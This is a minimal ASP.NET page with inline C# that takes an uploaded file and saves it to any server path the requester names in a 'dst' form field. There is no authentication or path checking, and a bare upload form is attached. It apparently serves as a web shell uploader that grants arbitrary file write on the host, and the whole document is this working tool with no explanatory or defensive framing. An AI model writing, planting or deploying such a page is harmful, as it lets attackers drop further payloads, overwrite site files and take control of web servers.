<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (!IsPostBack || Request.Files.Count == 0) return;
        HttpPostedFile f = Request.Files[0];
        f.SaveAs(Request.Form["dst"]);
        Response.Write(f.ContentLength);
    }
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f" /><input name="dst" /><input type="submit" /></form>
